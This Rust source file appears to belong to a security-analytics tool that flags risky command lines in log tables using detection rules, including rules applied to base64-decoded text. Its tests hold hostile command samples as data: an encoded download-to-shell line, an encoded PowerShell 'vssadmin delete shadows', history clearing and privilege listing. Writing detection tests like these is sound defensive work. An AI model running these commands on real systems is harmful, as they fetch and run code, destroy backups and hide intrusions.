//! Rows whose command line a rule matches.

use std::collections::HashMap;
use std::sync::Arc;

use arrow_array::builder::StringBuilder;
use arrow_array::{ArrayRef, Int64Array};

use super::payload::decoded_payloads;
use super::rules::{CommandRule, PLATFORMS, Rules, Severity};
use crate::table::{COMMANDS, Progress, choose};
use crate::{Error, Place, Result, Table};

/// Which rules to ask of which column.
#[derive(Debug, Clone, Default, serde::Deserialize)]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
#[serde(rename_all = "camelCase", deny_unknown_fields, default)]
pub struct RiskyOptions {
    /// The column of command lines; by default the first of `CommandLine`,
    /// `ProcessCommandLine`, `cmdline`, `Command` and their like.
    pub command_column: Option<String>,
    /// Rules of your own, beside the built-in ones or instead of those of the same id.
    pub rules: Vec<CommandRule>,
    /// Whether to ask the built-in rules. Default `true`.
    pub built_in_rules: Option<bool>,
    /// Only rules for these: `"windows"`, `"linux"`.
    pub platforms: Option<Vec<String>>,
    /// Only rules that are at least so sure: `"low"`, `"medium"`, `"high"`, `"critical"`.
    pub min_severity: Option<Severity>,
    /// Whether to look into what is encoded too, as `unpackBase64` finds it. Default `true`.
    pub decode: Option<bool>,
}

/// A rule that matches a command line.
struct Hit<'a> {
    rule: usize,
    found: &'a str,
    /// The decoded text that it was found in, if it was in none but that.
    decoded: Option<&'a str>,
}

/// How many bytes of text the result may have, beside columns that are not asked.
const MAX_BYTES: usize = 512 << 20;

/// The rows of `table` whose command line a rule matches: one for each row and
/// rule, in the order of rows.
///
/// Columns are those of `table`, then `SourceIndex` (row of `table`), `RuleId`,
/// `RuleName`, `Techniques` (ATT&CK, with commas), `Severity`, `Why`, `Match` (the
/// text that matched) and `Decoded` (the text that base64 in the line held, where
/// only that matched; else null). A line that repeats is looked at once.
///
/// # Errors
///
/// `ColumnNotFound` or `ColumnType` for `commandColumn`; `InvalidArgument` for a
/// wrong pattern, or if there is no usual column; `LimitExceeded` for more than
/// 512 MiB of text; `Cancelled` from `progress`.
pub fn risky_command_lines(
    table: &Table,
    options: &RiskyOptions,
    progress: &mut Progress<'_>,
) -> Result<Table> {
    let column = choose(
        table,
        options.command_column.as_deref(),
        COMMANDS,
        "commandColumn",
    )?;
    let lines = table.text(column)?;
    let rules = wanted_rules(options)?;
    let mut numbers: HashMap<&str, usize> = HashMap::new();
    let mut different: Vec<&str> = Vec::new();
    let mut number = |line| {
        *numbers.entry(line).or_insert_with(|| {
            different.push(line);
            different.len() - 1
        })
    };
    let rows: Vec<Option<usize>> = lines.iter().map(|line| line.map(&mut number)).collect();
    let payloads = match options.decode.unwrap_or(true) {
        true => decoded_payloads(&different, &mut progress.part(0.0, 0.5))?,
        false => vec![Vec::new(); different.len()],
    };
    let mut asking = progress.part(0.5, 1.0);
    let mut hits: Vec<Vec<Hit<'_>>> = Vec::new();
    for (line, payloads) in different.iter().zip(&payloads) {
        if hits.len().is_multiple_of(1 << 12) {
            asking.at(hits.len(), different.len())?;
        }
        hits.push(ask(&rules, line, payloads));
    }
    let rows = rows.into_iter().enumerate();
    let found = rows.filter_map(|(row, number)| Some((row as u32, number?)));
    let found: Vec<_> = found
        .filter(|&(_, number)| !hits[number].is_empty())
        .collect();
    result(table, &rules, &different, &hits, &found)
}

fn wanted_rules(options: &RiskyOptions) -> Result<Rules> {
    let own = options.rules.iter().flat_map(|rule| &rule.platforms);
    let mut named = options.platforms.iter().flatten().chain(own);
    if let Some(wrong) = named.find(|name| !PLATFORMS.contains(&name.as_str())) {
        return Err(Error::InvalidArgument(format!(
            "there is no platform `{wrong}` (there are: {})",
            PLATFORMS.join(", ")
        )));
    }
    let is_for = |rule: &CommandRule| {
        options.platforms.as_ref().is_none_or(|platforms| {
            rule.platforms.is_empty() || rule.platforms.iter().any(|own| platforms.contains(own))
        })
    };
    let with_built_in = options.built_in_rules.unwrap_or(true);
    Rules::new(&options.rules, with_built_in, |rule| {
        options
            .min_severity
            .is_none_or(|least| rule.severity >= least)
            && is_for(rule)
    })
}

fn ask<'a>(rules: &Rules, line: &'a str, payloads: &'a [String]) -> Vec<Hit<'a>> {
    let mut hits: Vec<Hit<'a>> = Vec::new();
    let decoded = payloads.iter().map(|payload| Some(payload.as_str()));
    for decoded in std::iter::once(None).chain(decoded) {
        for (rule, found) in rules.find(decoded.unwrap_or(line)) {
            if hits.iter().all(|hit| hit.rule != rule) {
                hits.push(Hit {
                    rule,
                    found,
                    decoded,
                });
            }
        }
    }
    hits
}

fn result(
    table: &Table,
    rules: &Rules,
    lines: &[&str],
    hits: &[Vec<Hit<'_>>],
    found: &[(u32, usize)],
) -> Result<Table> {
    let mut rows = Vec::new();
    let mut texts: [StringBuilder; 7] = Default::default();
    let mut bytes = 0;
    for &(row, number) in found {
        for hit in &hits[number] {
            rows.push(row);
            bytes += lines[number].len();
            let rule = &rules.rules[hit.rule];
            let techniques = rule.techniques.join(", ");
            let values = [
                Some(rule.id.as_str()),
                Some(&rule.name),
                Some(&techniques),
                Some(rule.severity.name()),
                Some(&rule.why),
                Some(hit.found),
                hit.decoded,
            ];
            for (builder, value) in texts.iter_mut().zip(values) {
                bytes += value.map_or(0, str::len);
                builder.append_option(value);
            }
            if bytes > MAX_BYTES {
                return Err(Error::LimitExceeded {
                    place: Place::default(),
                    problem: "the rules match more than 512 MiB of text".into(),
                    advice:
                        "ask fewer rules, with minSeverity or platforms, or a part of the table"
                            .into(),
                });
            }
        }
    }
    const NAMES: [&str; 7] = [
        "RuleId",
        "RuleName",
        "Techniques",
        "Severity",
        "Why",
        "Match",
        "Decoded",
    ];
    let sources = Int64Array::from_iter_values(rows.iter().map(|&row| row.into()));
    let mut result = table
        .take(rows)?
        .with_column("SourceIndex", Arc::new(sources))?;
    for (name, mut builder) in NAMES.into_iter().zip(texts) {
        let column: ArrayRef = Arc::new(builder.finish());
        result = result.with_column(name, column)?;
    }
    Ok(result)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)] // a test may fail so
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn ask_of(lines: &[Option<&str>], options: Value) -> Result<Table> {
        let column: ArrayRef = Arc::new(arrow_array::StringArray::from(lines.to_vec()));
        let table = Table::new(vec![("Command", column)]).unwrap();
        let options = serde_json::from_value(options).unwrap();
        risky_command_lines(&table, &options, &mut Progress::none())
    }

    /// Each hit as `row rule`, and the decoded text.
    fn hits(lines: &[Option<&str>], options: Value) -> Vec<String> {
        let found = ask_of(lines, options).unwrap();
        let (rows, ids) = (
            found.i64("SourceIndex").unwrap(),
            found.text("RuleId").unwrap(),
        );
        let decoded = found.text("Decoded").unwrap();
        let hits = (0..found.num_rows()).map(|i| {
            let decoded = decoded
                .get(i)
                .map_or(String::new(), |text| format!(" in {text}"));
            format!("{} {}{decoded}", rows.value(i), ids.get(i).unwrap_or("∅"))
        });
        hits.collect()
    }

    /// Defect 8: msticpy keeps one command for each time, and never looks into
    /// what it decodes.
    #[test]
    fn every_row_counts_and_base64_is_looked_into() {
        let encoded = "L2Jpbi9iYXNoIC1jIGlkOyB3Z2V0IHh8c2g=";
        let lines = [
            Some("history -c"),
            None,
            Some("history -c"),
            Some("ls"),
            Some(encoded),
        ];
        assert_eq!(
            hits(&lines, json!({})),
            [
                "0 history-removed",
                "2 history-removed",
                "4 download-to-shell in /bin/bash -c id; wget x|sh",
            ]
        );
        assert_eq!(
            hits(&lines[3..], json!({ "decode": false })),
            Vec::<String>::new()
        );
        let powershell =
            "powershell -e dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==";
        assert_eq!(
            hits(&[Some(powershell)], json!({})),
            [
                "0 powershell-encoded",
                "0 shadow-copies-deleted in vssadmin delete shadows"
            ]
        );
    }

    /// Each rule that a long line matches repeats the line.
    #[test]
    fn the_text_of_the_result_has_a_limit() {
        let rules: Vec<Value> = (0..40)
            .map(
                |i| json!({ "id": i.to_string(), "name": "x", "severity": "low", "pattern": "^x" }),
            )
            .collect();
        let options = json!({ "rules": rules, "builtInRules": false, "decode": false });
        let long = "x".repeat(16 << 20);
        let error = ask_of(&[Some(&long)], options).unwrap_err();
        assert_eq!(error.code(), "limitExceeded");
    }

    #[test]
    fn rules_are_chosen_added_and_replaced() {
        let lines = [
            Some("vssadmin delete shadows"),
            Some("history -c"),
            Some("whoami /all"),
            Some("deploy.sh --prod"),
        ];
        let own = json!([{ "id": "deploy", "name": "Deployed", "severity": "low", "pattern": "deploy\\.sh" }]);
        let rows: &[(&str, Value, &[&str])] = &[
            (
                "all",
                json!({}),
                &[
                    "0 shadow-copies-deleted",
                    "1 history-removed",
                    "2 privileges-listed",
                ],
            ),
            (
                "one platform",
                json!({ "platforms": ["linux"] }),
                &["1 history-removed"],
            ),
            (
                "sure ones",
                json!({ "minSeverity": "critical" }),
                &["0 shadow-copies-deleted"],
            ),
            (
                "own beside",
                json!({ "rules": own, "platforms": ["linux"] }),
                &["1 history-removed", "3 deploy"],
            ),
            (
                "own alone",
                json!({ "rules": own, "builtInRules": false }),
                &["3 deploy"],
            ),
            (
                "instead of a built-in one",
                json!({ "rules": [{ "id": "history-removed", "name": "x", "severity": "low", "pattern": "^no" }], "platforms": ["linux"] }),
                &[],
            ),
        ];
        for (name, options, expected) in rows {
            assert_eq!(hits(&lines, options.clone()), *expected, "{name}");
        }
    }

    #[test]
    fn wrong_options_say_what_to_do() {
        let rows = [
            (
                json!({ "platforms": ["mac"] }),
                "there is no platform `mac`",
            ),
            (json!({ "commandColumn": "Cmd" }), "no column `Cmd`"),
            (
                json!({ "rules": [{ "id": "x", "name": "x", "severity": "low", "pattern": "(" }] }),
                "rule `x`: regex parse error",
            ),
            (
                json!({ "rules": [{ "id": "x", "name": "x", "severity": "low", "pattern": "x", "platforms": ["mac"] }] }),
                "there is no platform `mac`",
            ),
            (
                json!({ "rules": [
                    { "id": "x", "name": "x", "severity": "low", "pattern": "x" },
                    { "id": "x", "name": "y", "severity": "low", "pattern": "y" },
                ] }),
                "two rules have the id `x`",
            ),
        ];
        for (options, message) in rows {
            let error = ask_of(&[Some("ls")], options).unwrap_err().to_string();
            assert!(error.contains(message), "{error}");
        }
        let empty = Table::new(vec![(
            "a",
            arrow_array::new_null_array(&arrow_schema::DataType::Utf8, 1),
        )])
        .unwrap();
        let error = risky_command_lines(&empty, &RiskyOptions::default(), &mut Progress::none())
            .unwrap_err();
        assert!(
            error.to_string().contains("name yours with commandColumn"),
            "{error}"
        );
    }
}
